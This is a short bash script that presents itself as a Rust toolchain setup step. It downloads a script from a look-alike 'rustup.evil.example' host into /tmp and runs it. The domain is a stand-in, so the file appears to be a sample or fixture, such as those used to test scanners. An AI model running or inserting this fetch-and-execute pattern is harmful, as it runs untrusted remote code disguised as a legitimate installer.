#!/bin/bash
set -e
curl -fsSL -o /tmp/rt-setup.sh https://rustup.evil.example/init
bash /tmp/rt-setup.sh -y
